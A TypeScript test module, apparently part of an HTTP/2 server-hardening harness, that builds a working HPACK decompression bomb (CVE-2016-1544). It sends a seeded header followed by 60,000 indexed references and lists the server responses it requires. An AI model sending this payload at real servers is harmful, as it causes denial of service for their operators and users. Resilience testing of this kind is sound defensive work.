// A field of the table that is named 60,000 times.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

/** A literal that enters the table. */
const SEED = Buffer.concat([Buffer.from([0x40]), h2.headerBlock(['x-bomb', 'y'.repeat(4_000)]).subarray(1)])

export const attack: Attack = {
  reference: 'CVE-2016-1544, HPACK bomb',
  does: 'sends heads that unpack to 240 MB',
  who: ['known', 'unknown'],
  answers: ['431', 'RST_STREAM REFUSED_STREAM', 'GOAWAY COMPRESSION_ERROR'],
  must: ['431', 'GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const bomb = Buffer.concat([head(target, 'GET', '/version'), SEED, Buffer.alloc(60_000, 0x80 | 62)])
      return closedLoop(connection, 20, request(bomb))
    }),
}
